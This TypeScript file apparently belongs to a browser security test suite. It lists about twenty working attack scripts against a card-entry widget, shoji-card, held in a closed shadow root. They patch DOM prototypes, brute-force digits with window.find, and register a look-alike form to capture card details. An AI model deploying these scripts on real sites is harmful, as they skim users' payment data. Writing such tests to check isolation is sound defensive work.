/** Ways into a closed shadow root, and to what stands in one. */
import type { Attack } from '../attack.ts';

/** Every method and accessor of the DOM's prototypes. */
const OMNI = `const look = (thing) => {
        if (typeof thing === 'string') { if (/\\d\\d/.test(thing)) steal(thing); return; }
        if (typeof thing !== 'object' || thing === null) return;
        if (thing instanceof ShadowRoot) raid(thing);
        else if (thing instanceof HTMLIFrameElement) seize(thing);
        else if (thing instanceof MessageEvent || thing instanceof ElementInternals) steal(thing.data, thing.shadowRoot ? raid(thing.shadowRoot) : '');
        else if (thing instanceof Node) { const root = thing.getRootNode(); if (root instanceof ShadowRoot) raid(root); if (thing instanceof HTMLInputElement) steal(thing.value); }
        else if (Object.getPrototypeOf(thing) === Object.prototype || Object.getPrototypeOf(thing) === null) steal(thing);
      };
      const skip = new Set(['constructor', 'toString', 'valueOf', 'hasOwnProperty']);
      for (const kind of [EventTarget, Node, Element, HTMLElement, Document, DocumentFragment, ShadowRoot, HTMLIFrameElement, HTMLInputElement, HTMLFormElement, MessageChannel,
        MessagePort, MessageEvent, Event, UIEvent, InputEvent, KeyboardEvent, CSSStyleDeclaration, CSSStyleSheet, ElementInternals, DOMTokenList, HTMLTemplateElement]) {
        for (const name of Object.getOwnPropertyNames(kind.prototype)) {
          if (skip.has(name)) continue;
          patch(kind.prototype, name, (self, values, result) => { look(self); for (const value of values) look(value); look(result); });
        }
      }
      patch(window, 'postMessage', (self, values) => { for (const value of values) look(value); });`;

/** Makes the elements anew, several ways. */
const REMAKE = `for (const name of ['naive-card', 'shoji-card']) {
          const host = document.querySelector(name);
          const markup = host.outerHTML;
          host.insertAdjacentHTML('beforebegin', markup);
          const anew = host.previousElementSibling;
          host.remove();
          const copy = anew.cloneNode(true);
          anew.replaceWith(copy);
        }`;

export const SHADOW: readonly Attack[] = [
  {
    id: 'sh-attach',
    what: 'patches attachShadow, keeps the roots it makes, and puts a document of its own into the frames it finds there',
    aim: 'replacement',
    control: 'reads',
    alone: 'before',
    script: `patch(Element.prototype, 'attachShadow', (self, values, root) => raid(root));`,
  },
  {
    id: 'sh-attach-open',
    what: 'patches attachShadow to open every root',
    aim: 'replacement',
    control: 'reads',
    alone: 'before',
    script: `const original = Element.prototype.attachShadow;
      Element.prototype.attachShadow = function (options) {
        const root = original.call(this, { ...options, mode: 'open' });
        raid(this.shadowRoot);
        return root;
      };`,
  },
  {
    id: 'sh-preattach',
    what: 'attaches an open root before the element can, also in a document without custom elements',
    aim: 'replacement',
    control: 'reads',
    alone: true,
    differs: true,
    script: `const prepare = (name, owner) => {
        const host = owner.createElement(name);
        try { raid(host.attachShadow({ mode: 'open' })); } catch { return null; }
        return host;
      };
      const without = document.implementation.createHTMLDocument('');
      const early = { 'shoji-card': order === 'before' ? prepare('shoji-card', document) : prepare('shoji-card', without) };
      for (const host of document.querySelectorAll('naive-card')) raid(host.attachShadow({ mode: 'open' }));
      const onLoad = () => {
        for (const host of document.querySelectorAll('shoji-card')) {
          try { raid(host.attachShadow({ mode: 'open' })); } catch { /* it has one */ }
          const other = early['shoji-card'];
          if (!other) continue;
          for (const { name, value } of host.attributes) other.setAttribute(name, value);
          host.replaceWith(other);
        }
        for (const host of document.querySelectorAll('naive-card')) { try { raid(host.shadowRoot ?? host.attachShadow({ mode: 'open' })); } catch { /* closed */ } }
      };
      if (order === 'before') {
        new MutationObserver((_, observer) => {
          const host = document.querySelector('naive-card');
          if (!host) return;
          observer.disconnect();
          raid(host.attachShadow({ mode: 'open' }));
        }).observe(document, { childList: true, subtree: true });
      }
      whenHosts(onLoad);`,
  },
  {
    id: 'sh-setroot',
    what: 'gives the element a root of the attacker’s choice by renderRoot, at its creation and later',
    aim: 'replacement',
    control: 'reads',
    alone: true,
    script: `const place = (host) => {
        const inner = document.createElement('div');
        host.after(inner);
        const root = inner.attachShadow({ mode: 'open' });
        raid(root);
        try { Object.defineProperty(host, 'renderRoot', { configurable: true, get: () => root, set: () => undefined }); } catch { /* denied */ }
        try { Object.defineProperty(host, 'shadowRoot', { configurable: true, get: () => root }); } catch { /* denied */ }
      };
      if (order === 'before') {
        const done = new Set();
        new MutationObserver(() => { for (const host of hosts()) if (!done.has(host)) { done.add(host); place(host); } })
          .observe(document, { childList: true, subtree: true });
      } else for (const host of hosts()) place(host);
      whenHosts((all) => { for (const host of all) { try { host.renderRoot = host.renderRoot; host.requestUpdate?.(); } catch { /* denied */ } } });`,
  },
  {
    id: 'sh-internals-patch',
    what: 'patches attachInternals and reads .shadowRoot of what it returns',
    aim: 'replacement',
    control: 'reads',
    alone: true,
    script: `const kept = [];
      patch(HTMLElement.prototype, 'attachInternals', (self, values, internals) => { if (internals) kept.push(internals); });
      const look = () => { for (const internals of kept) raid(internals.shadowRoot); };
      whenHosts(() => {
        // the control never asks for its internals, so the patched function is called for it
        for (const host of document.querySelectorAll('naive-card')) host.attachInternals();
        look();
      });
      moment(look);`,
  },
  {
    id: 'sh-internals-call',
    what: 'asks the element for its internals from outside',
    aim: 'replacement',
    control: 'reads',
    alone: 'before',
    script: `whenHosts((all) => { for (const host of all) { try { raid(host.attachInternals().shadowRoot); } catch { /* taken */ } } });`,
  },
  {
    id: 'sh-props',
    what: 'follows every property of the element, its class and its events to roots, frames and texts',
    aim: 'replacement',
    control: 'reads',
    alone: 'before',
    noisy: true,
    script: `whenHosts((all) => { for (const host of all) crawl(host); });
      moment(() => { for (const host of hosts()) { crawl(host); crawl(host.constructor); } });
      for (const type of ['shoji-ready', 'shoji-change', 'shoji-token', 'shoji-error', 'focusin']) listen(document, type, (event) => crawl(event), true);`,
  },
  {
    id: 'sh-serialise',
    what: 'serialises the page: getHTML with shadow roots, XMLSerializer, outerHTML, clones, print-like copies',
    aim: 'reading',
    control: 'reads',
    noisy: true,
    script: `moment(() => {
        steal(document.documentElement.getHTML?.({ serializableShadowRoots: true }));
        steal(new XMLSerializer().serializeToString(document));
        for (const host of hosts()) {
          steal(host.outerHTML, host.innerText, host.textContent, host.getHTML?.({ serializableShadowRoots: true }));
          const copy = host.cloneNode(true);
          steal(copy.outerHTML);
          if (copy.shadowRoot) raid(copy.shadowRoot);
        }
      });`,
  },
  {
    id: 'sh-anim',
    what: 'reads the targets of running animations',
    aim: 'reading',
    control: 'reads',
    script: `moment(() => {
        const all = [...document.getAnimations(), ...hosts().flatMap((host) => host.getAnimations({ subtree: true }))];
        for (const { effect } of all) {
          const target = effect?.target;
          steal(target?.value);
          const root = target?.getRootNode();
          if (root instanceof ShadowRoot) raid(root, 'read');
        }
      });`,
  },
  {
    id: 'sh-perf',
    what: 'observes event timing, first input, layout shifts, largest paint and elements, and reads what they point at',
    aim: 'reading',
    control: 'reads',
    engines: ['chromium', 'firefox'],
    why: 'WebKitGTK reports too few of these entries for a control',
    script: `const nodes = new Set();
      const look = (entry) => { for (const node of [entry.target, entry.element, ...(entry.sources ?? []).map((source) => source.node)]) if (node) nodes.add(node); };
      for (const type of ['event', 'first-input', 'layout-shift', 'largest-contentful-paint', 'element']) {
        try { new PerformanceObserver((list) => list.getEntries().forEach(look)).observe({ type, buffered: true, durationThreshold: 16 }); } catch { /* not here */ }
      }
      moment(() => { for (const node of nodes) {
        steal(node.value);
        const root = node.getRootNode();
        if (root instanceof ShadowRoot) raid(root, 'read');
      } });`,
  },
  {
    id: 'sh-focus',
    what: 'watches activeElement and patches focus, blur, select, click, scrollIntoView and setSelectionRange',
    aim: 'reading',
    control: 'reads',
    script: `for (const [owner, name] of [[HTMLElement.prototype, 'focus'], [HTMLElement.prototype, 'blur'], [HTMLElement.prototype, 'click'],
        [Element.prototype, 'scrollIntoView'], [HTMLInputElement.prototype, 'select'], [HTMLInputElement.prototype, 'setSelectionRange']]) {
        patch(owner, name, (self) => { steal(self.value); const root = self.getRootNode?.(); if (root instanceof ShadowRoot) raid(root, 'read'); });
      }
      const look = () => { let active = document.activeElement; while (active) { steal(active.value); active = active.shadowRoot?.activeElement; } };
      for (const type of ['focusin', 'focusout', 'keyup', 'selectionchange']) listen(document, type, look, true);
      moment(look);`,
  },
  {
    id: 'sh-select',
    what: 'selects everything, and reads the selection, carets and elements at every place of the widget',
    aim: 'reading',
    control: 'reads',
    script: `moment(() => {
        document.execCommand('selectAll'); // in the field that has the focus
        steal(String(getSelection()));
        getSelection().selectAllChildren(document.body);
        steal(String(getSelection()));
        for (const range of getSelection().getComposedRanges?.() ?? []) for (const node of [range.startContainer, range.endContainer]) {
          const root = node.getRootNode();
          if (root instanceof ShadowRoot) raid(root, 'read');
        }
        document.execCommand('selectAll');
        steal(String(getSelection()));
        for (const host of hosts()) {
          getSelection().selectAllChildren(host);
          steal(String(getSelection()));
          const { left, top, width, height } = host.getBoundingClientRect();
          for (let x = left + 5; x < left + width; x += 60) for (let y = top + 5; y < top + height; y += 20) {
            for (const element of document.elementsFromPoint(x, y)) { steal(element.value); if (element instanceof HTMLIFrameElement && !element.name) seize(element, 'read'); }
            const caret = document.caretPositionFromPoint?.(x, y)?.offsetNode ?? document.caretRangeFromPoint?.(x, y)?.startContainer;
            steal(caret?.textContent, caret?.value);
            const root = caret?.getRootNode();
            if (root instanceof ShadowRoot) raid(root, 'read');
          }
        }
        getSelection().removeAllRanges();
      });`,
  },
  {
    id: 'sh-find',
    what: 'asks window.find() for one digit more at a time, in frames too',
    aim: 'reading',
    control: 'reads',
    script: `moment(() => {
        const finds = (text) => {
          getSelection().removeAllRanges();
          try { if (window.find(text, true, false, true, false, true, false)) return true; } catch { /* this argument is refused here */ }
          try { return window.find(text, true, false, true); } catch { return false; }
        };
        let asked = 0;
        const grow = (text) => {
          if (text.length > 1) steal(text);
          if (text.length >= 19) return;
          for (const digit of '0123456789') {
            asked += 1;
            if (asked > 900) return;
            for (const joint of ['', ' ']) if (finds(text + joint + digit)) { grow(text + digit); break; }
          }
        };
        for (const first of '4523') if (finds(first)) grow(first);
        getSelection().removeAllRanges();
      });`,
  },
  {
    id: 'sh-omni',
    what: 'patches every method and accessor of the DOM’s prototypes, and looks at this, arguments and results',
    aim: 'replacement',
    control: 'reads',
    alone: true,
    noisy: true,
    script: OMNI,
  },
  {
    id: 'sh-define',
    what: 'patches customElements.define, wraps the classes, makes elements of its own of them and follows each',
    aim: 'replacement',
    control: 'reads',
    alone: true,
    noisy: true,
    only: 'before',
    script: `const original = customElements.define;
      const victims = [];
      customElements.define = function (name, Original, options) {
        const Wrapped = class extends Original {
          constructor() { super(); victims.push(this); }
          connectedCallback() { super.connectedCallback?.(); crawl(this); }
        };
        original.call(this, name, Wrapped, options);
        try { const mine = new Wrapped(); document.documentElement.append(mine); crawl(mine); mine.remove(); } catch { /* not to be made */ }
      };
      moment(() => { for (const victim of victims) { crawl(victim); try { raid(victim.attachInternals().shadowRoot); } catch { /* taken */ } } });`,
  },
  {
    id: 'sh-predefine',
    what: 'registers <shoji-card> first, with a form of its own',
    aim: 'imitation',
    control: 'imitates',
    alone: true,
    only: 'before',
    script: `customElements.define('shoji-card', class extends HTMLElement {
        connectedCallback() {
          this.innerHTML = '<input><input><input>';
          this.addEventListener('input', () => own([...this.querySelectorAll('input')].map(({ value }) => value).join(' ')));
        }
      });`,
  },
  {
    id: 'sh-create',
    what: 'patches createElement, importNode, innerHTML, append and appendChild, and keeps what goes through',
    aim: 'replacement',
    control: 'reads',
    alone: 'before',
    script: `const look = (thing) => {
        if (thing instanceof HTMLIFrameElement) seize(thing);
        else if (thing instanceof ShadowRoot) raid(thing);
        else if (thing instanceof Node) { const root = thing.getRootNode(); if (root instanceof ShadowRoot) raid(root); }
      };
      const all = (self, values, result) => { look(self); for (const value of values) look(value); look(result); };
      for (const [owner, names] of [[Document.prototype, ['createElement', 'createElementNS', 'importNode', 'adoptNode']], [Node.prototype, ['appendChild', 'insertBefore', 'replaceChild', 'cloneNode']],
        [Element.prototype, ['innerHTML', 'append', 'prepend', 'replaceChildren', 'insertAdjacentElement', 'insertAdjacentHTML', 'setAttribute', 'remove']],
        [ShadowRoot.prototype, ['innerHTML']], [DocumentFragment.prototype, ['append', 'replaceChildren', 'prepend']]]) {
        for (const name of names) patch(owner, name, all);
      }`,
  },
  {
    id: 'sh-remount',
    what: 'patches attachShadow and createElement after load, then makes the element anew, several ways',
    aim: 'replacement',
    control: 'reads',
    alone: true,
    only: 'after',
    script: `whenHosts(() => {
        patch(Element.prototype, 'attachShadow', (self, values, root) => raid(root));
        patch(HTMLElement.prototype, 'attachInternals', (self, values, internals) => { if (internals) raid(internals.shadowRoot); });
        patch(Document.prototype, 'createElement', (self, values, element) => { if (element instanceof HTMLIFrameElement) seize(element); });
        patch(Node.prototype, 'appendChild', (self, values) => { if (self instanceof ShadowRoot) raid(self); });
        ${REMAKE}
      });`,
  },
  {
    id: 'sh-rebuild',
    what: 'patches every method and accessor of the DOM’s prototypes after load, then makes the element anew',
    aim: 'replacement',
    control: 'reads',
    alone: true,
    noisy: true,
    only: 'after',
    script: `whenHosts(() => {
        ${OMNI}
        ${REMAKE}
      });`,
  },
  {
    id: 'sh-sheet',
    what: 'patches constructed style sheets, animates what stands in closed roots by a rule of its own, and follows animations, timelines and their events to it',
    aim: 'replacement',
    control: 'reads',
    alone: true,
    differs: true,
    noisy: true,
    script: `const rules = 'iframe, input, p, div, shoji-vault { animation: breathe 1s infinite alternate; transition: color 1s; view-timeline-name: --stolen }';
      const original = CSSStyleSheet.prototype.replaceSync;
      CSSStyleSheet.prototype.replaceSync = function (text) { return original.call(this, '@keyframes breathe { from { color: #111 } to { color: #222 } } ' + text + rules); };
      const look = (thing) => {
        if (!(thing instanceof Node)) return;
        if (thing instanceof HTMLInputElement) steal(thing.value);
        if (thing instanceof HTMLIFrameElement && !thing.name) seize(thing);
        const root = thing.getRootNode();
        if (root instanceof ShadowRoot) raid(root);
      };
      const follow = (animation) => {
        look(animation?.effect?.target);
        for (const name of ['source', 'subject']) { try { look(animation?.timeline?.[name]); } catch { /* none */ } }
      };
      const all = () => { for (const found of [document.getAnimations(), ...hosts().map((host) => host.getAnimations({ subtree: true }))]) found.forEach(follow); };
      for (const type of ['animationstart', 'animationiteration', 'transitionrun', 'transitionend', 'scroll', 'scrollsnapchange', 'contentvisibilityautostatechange'])
        listen(window, type, (event) => { follow(event.animation); for (const thing of [...event.composedPath(), event.target, event.pseudoTarget?.element, event.snapTargetBlock]) look(thing); }, true);
      whenHosts(() => {
        if (order === 'after') { ${REMAKE} }
        // what stands in the element's slot is laid out among the nodes of its root
        for (const host of hosts()) {
          const child = host.appendChild(document.createElement('div'));
          child.style.cssText = 'animation: breathe 1s infinite; animation-timeline: scroll(nearest)';
          look(child.offsetParent);
          look(child.assignedSlot);
          look(child.scrollParent?.());
          child.getAnimations().forEach(follow);
        }
        all();
      });
      moment(all);`,
  },
  {
    id: 'sh-mutobs',
    what: 'observes every mutation of the document, and patches MutationObserver to see the records of others',
    aim: 'reading',
    control: 'reads',
    script: `const look = (records) => { for (const record of records) {
        steal(record.target?.textContent, record.target?.value, record.oldValue);
        for (const node of record.addedNodes) { steal(node.textContent); if (node instanceof HTMLIFrameElement && !node.name) seize(node, 'read'); }
        const root = record.target?.getRootNode?.();
        if (root instanceof ShadowRoot) raid(root, 'read');
      } };
      new MutationObserver(look).observe(document, { childList: true, subtree: true, attributes: true, characterData: true, attributeOldValue: true });
      patch(MutationObserver.prototype, 'observe', (self, [target]) => { const root = target?.getRootNode?.(); if (root instanceof ShadowRoot) raid(root, 'read'); });
      const Original = ResizeObserver;
      window.ResizeObserver = class extends Original { constructor(callback) { super((entries, observer) => { for (const { target } of entries) steal(target.value, target.textContent); callback(entries, observer); }); } };`,
  },
];
